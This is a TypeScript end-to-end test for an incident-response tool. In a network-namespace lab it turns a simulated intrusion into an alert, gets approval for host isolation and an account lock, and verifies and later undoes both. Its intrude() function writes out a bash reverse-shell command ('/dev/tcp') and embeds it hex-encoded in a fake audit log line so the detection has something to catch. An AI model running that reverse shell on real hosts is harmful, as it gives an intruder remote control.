/** response.test: the whole loop on real systems, in network namespaces: an intrusion on one host is seen, becomes an alert and an
 *  incident; what was volatile goes into evidence; isolation and a locked account are proposed with their impact, approved by operations
 *  (one in the browser, one by HTTP), proven by ping and bind, and undone on their time. HOLDFAST_TEST_SCREENSHOTS names a folder for
 *  pictures of each step. */
import assert from "node:assert/strict";
import { randomUUID } from "node:crypto";
import { mkdirSync } from "node:fs";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import type { Browser, Page } from "playwright-core";
import { accessible, buildWeb, launch, logIn, noBrowser, open } from "../e2e/browser.ts";
import { type RunningServer, startHoldfast } from "../e2e/server.ts";
import { type Lab, labMissing, startLab } from "./lab/lab.ts";

const PICTURES = process.env["HOLDFAST_TEST_SCREENSHOTS"] ?? "";
const PASSWORD = "a password of the operator";
const LASTS_MS = 10_000;

type Json = Record<string, unknown>;
interface Caller {
  readonly headers: Record<string, string>;
}

describe("the response loop on real hosts", { skip: labMissing() || noBrowser }, () => {
  let lab: Lab;
  let server: RunningServer;
  let browser: Browser;
  const steps: string[] = [];
  let token: Caller;
  let analyst: Caller;
  let operator: Caller;

  before(async () => {
    buildWeb();
    lab = await startLab();
    server = await startHoldfast({ env: { HOLDFAST_SYSLOG_HOST: lab.address } });
    browser = await launch();
    token = { headers: { authorization: `Bearer ${server.token}` } };
    await prepare();
    analyst = await session("ana");
    operator = await session("olga");
  });
  after(async () => {
    await browser?.close();
    await server?.stop();
    await lab?.close();
  });

  test("seen, proposed, approved, isolated, proven, undone on time, and all of it on the timeline", async (t) => {
    assert.equal(lab.ping("client-01", "web-01"), true);
    assert.equal(lab.bind("mallory", lab.directory.people["mallory"] ?? ""), true);

    const began = Date.now();
    intrude();
    const incident = await until(
      "an incident",
      async () => (await get("/api/incidents", analyst))["items"] as Json[],
      (items) => items.length > 0,
    );
    const incidentId = String(incident[0]?.["id"]);
    step("incident", began);

    const forensics = await propose(analyst, {
      incidentId,
      action: "collect-forensics",
      connectorId: "hosts",
      input: { host: "web-01" },
    });
    const isolation = await propose(analyst, {
      incidentId,
      action: "isolate-host",
      connectorId: "firewall",
      input: { host: "web-01" },
      undoAfterMs: LASTS_MS,
    });
    const locking = await propose(analyst, {
      incidentId,
      action: "disable-account",
      connectorId: "directory",
      input: { user: "mallory" },
      undoAfterMs: LASTS_MS,
    });
    step("proposed", began);
    const { impact, approvalId } = isolation as {
      impact: { services: { id: string }[]; owners: { id: string }[] };
      approvalId: string;
    };
    assert.deepEqual(
      impact.services.map(({ id }) => id),
      ["shop"],
      "the impact names the service",
    );
    assert.deepEqual(
      impact.owners.map(({ id }) => id),
      ["netops"],
    );
    assert.equal((await effect(String(forensics["id"]), "done"))["approvalId"], null, "a read needs no approval");

    const own = await decide(analyst, approvalId);
    assert.equal(own.status, 403, "whoever proposed it does not approve it");
    assert.equal(lab.ping("client-01", "web-01"), true, "nothing happens before approval");

    const seen = await open(browser, server, {});
    const { page } = seen;
    await logIn(seen, server, { user: "olga", password: PASSWORD });
    await page.goto(`${server.url}/approvals?approval=${approvalId}`);
    await page.getByText("holdfast_isolation").first().waitFor();
    await picture(page, "approval");
    await accessible(page, "an approval");
    await page.getByLabel("Reason").fill("the shop runs on web-02 meanwhile");
    const approvedAt = Date.now();
    await page.getByRole("button", { name: /^Approve:/ }).click();
    const locked = await decide(operator, String(locking["approvalId"]));
    assert.equal(locked.status, 200, JSON.stringify(locked.body));
    const isolated = await effect(String(isolation["id"]), "done");
    const verifiedMs = Date.now() - approvedAt;
    step(`verified ${verifiedMs} ms after approval`, began);
    assert.equal((isolated["proof"] as Json)["verdict"], "holds");
    assert.equal(lab.ping("client-01", "web-01"), false, "isolated");
    assert.equal(lab.ping("client-01", "db-01"), true, "others go on");
    await effect(String(locking["id"]), "done");
    assert.equal(
      (await get(`/api/incidents/${incidentId}`, analyst))["waitingFor"],
      null,
      "nobody is waited for any more",
    );
    assert.equal(lab.bind("mallory", lab.directory.people["mallory"] ?? ""), false, "locked");
    assert.equal(lab.bind("alice", lab.directory.people["alice"] ?? ""), true, "others go on");
    await page.goto(`${server.url}/incidents/${incidentId}?tab=actions`);
    await page.getByText("in place").first().waitFor();
    await picture(page, "in-place");
    await accessible(page, "the actions of an incident");

    const undone = await effect(String(isolation["id"]), "undone");
    const lateMs = Date.parse(String(undone["undoneAt"])) - Date.parse(String(isolated["undoAt"]));
    assert.ok(lateMs >= 0 && lateMs <= 2_000, `undone ${lateMs} ms after its time`);
    assert.equal((undone["undoProof"] as Json)["verdict"], "does-not-hold");
    await effect(String(locking["id"]), "undone");
    assert.equal(lab.ping("client-01", "web-01"), true, "back");
    assert.equal(lab.bind("mallory", lab.directory.people["mallory"] ?? ""), true, "back");
    step(`undone ${lateMs} ms after its time`, began);

    const detail = await get(`/api/incidents/${incidentId}`, analyst);
    const told = (detail["timeline"] as Json[]).map(({ title }) => String(title));
    for (const words of [
      "Proposed: Isolate host",
      "Approved: Isolate host",
      "Done and verified: Isolate host",
      "Undone and verified: Isolate host",
      "Kept as evidence",
    ])
      assert.ok(
        told.some((title) => title.startsWith(words)),
        `"${words}" is not on the timeline:\n${told.join("\n")}`,
      );
    await page.goto(`${server.url}/incidents/${incidentId}`);
    await page.getByText("Undone and verified").first().waitFor();
    await picture(page, "timeline");
    assert.deepEqual(seen.problems(), []);
    await seen.close();
    t.diagnostic(steps.join(" · "));
  });

  /** A shell on web-01 that calls home, told by the audit records that the host's own auditd would send. */
  function intrude(): void {
    const to = lab.host("client-01").address;
    const script = [
      `echo "<182>1 $(date -u +%Y-%m-%dT%H:%M:%S.000Z) web-01 audispd 4182 - - type=EXECVE msg=audit($(date +%s).100:9021): argc=3 a0=\\"bash\\" a1=\\"-c\\" a2=$(printf 'bash -i >& /dev/tcp/${to}/22 0>&1' | od -An -tx1 | tr -d ' \\n' | tr a-f A-F)" > /dev/tcp/${lab.address}/${server.ports.syslog}`,
      `exec 3<>/dev/tcp/${to}/22; head -c 4 <&3`,
    ].join("\n");
    const ran = lab.exec("web-01", ["bash", "-c", script]);
    assert.equal(ran.code, 0, ran.stderr);
  }

  async function prepare(): Promise<void> {
    const hosts = ["web-01", "db-01", "client-01"].map((name) => lab.line(name));
    const secrets = { privateKey: lab.key.privateKey };
    const { url, ca, base, bindDn, bindPassword, sessionBase } = lab.directory;
    const allow = [lab.range];
    const connectors = [
      {
        id: "firewall",
        name: "Firewalls",
        kind: "nftables-ssh",
        secrets,
        settings: { hosts, user: "root", management: [lab.address] },
      },
      { id: "hosts", name: "Hosts", kind: "ssh-host", secrets, settings: { hosts, user: "root" } },
      {
        id: "directory",
        name: "Directory",
        kind: "ldap",
        secrets: { bindPassword },
        settings: { url, ca, base, bindDn, sessionBase },
      },
    ];
    for (const connector of connectors) await made("/api/connectors", { ...connector, allow });
    await made("/api/estate/import", { yaml: ESTATE });
    await made("/api/users", { name: "ana", role: "analyst", team: "security", password: PASSWORD });
    await made("/api/users", { name: "olga", role: "operations", team: "operations", password: PASSWORD });
  }

  async function made(path: string, body: Json): Promise<void> {
    const answer = await post(path, token, body);
    assert.equal(answer.status, 200, `${path}: ${JSON.stringify(answer.body)}`);
    assert.deepEqual(answer.body["problems"] ?? [], []);
  }

  async function session(user: string): Promise<Caller> {
    const response = await fetch(`${server.url}/api/session`, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ user, password: PASSWORD }),
    });
    assert.equal(response.status, 200);
    const { csrf } = (await response.json()) as { csrf: string };
    const cookie = response.headers
      .getSetCookie()
      .map((one) => one.split(";")[0])
      .join("; ");
    return { headers: { cookie, "x-holdfast-csrf": csrf } };
  }

  async function post(path: string, caller: Caller, body: Json): Promise<{ status: number; body: Json }> {
    const response = await fetch(`${server.url}${path}`, {
      method: "POST",
      headers: { ...caller.headers, "content-type": "application/json" },
      body: JSON.stringify(body),
    });
    return { status: response.status, body: (await response.json()) as Json };
  }

  async function get(path: string, caller: Caller): Promise<Json> {
    const response = await fetch(`${server.url}${path}`, { headers: caller.headers });
    const body = (await response.json()) as Json;
    assert.equal(response.status, 200, JSON.stringify(body));
    return body;
  }

  async function propose(caller: Caller, asked: Json): Promise<Json> {
    const { status, body } = await post("/api/effects", caller, {
      key: randomUUID(),
      reason: "a shell that calls home",
      ...asked,
    });
    assert.equal(status, 200, JSON.stringify(body));
    return body;
  }

  async function decide(caller: Caller, approvalId: string): Promise<{ status: number; body: Json }> {
    const { hash } = await get(`/api/approvals/${approvalId}`, operator);
    return post(`/api/approvals/${approvalId}/decision`, caller, { verdict: "approve", reason: "agreed", hash });
  }

  const effect = (id: string, state: string): Promise<Json> =>
    until(
      `effect ${state}`,
      () => get(`/api/effects/${id}`, analyst),
      (one) => one["state"] === state,
    );

  async function until<T>(what: string, read: () => Promise<T>, holds: (value: T) => boolean): Promise<T> {
    const deadline = Date.now() + 60_000;
    for (;;) {
      const value = await read();
      if (holds(value)) return value;
      if (Date.now() > deadline)
        throw new Error(`It never came to this: ${what}. Last: ${JSON.stringify(value).slice(0, 3000)}`);
      await new Promise((resolve) => setTimeout(resolve, 25));
    }
  }

  function step(name: string, since: number): void {
    steps.push(`${name} at ${Date.now() - since} ms`);
  }

  async function picture(page: Page, name: string): Promise<void> {
    if (PICTURES === "") return;
    mkdirSync(PICTURES, { recursive: true });
    await page.screenshot({ path: join(PICTURES, `response-${name}.png`) });
  }
});

const ESTATE = `
teams:
  - { id: netops, name: Network operations, kind: operations }
services:
  - { id: shop, name: Shop, owner: netops, criticality: 4, exposure: internet, assets: [web-01, web-02] }
assets:
  - { name: web-01, owner: netops, kind: server, criticality: 4, exposure: internet }
  - { name: web-02, owner: netops, kind: server, criticality: 4, exposure: internet }
  - { name: db-01, owner: netops, kind: database, criticality: 4, exposure: internal }
`;
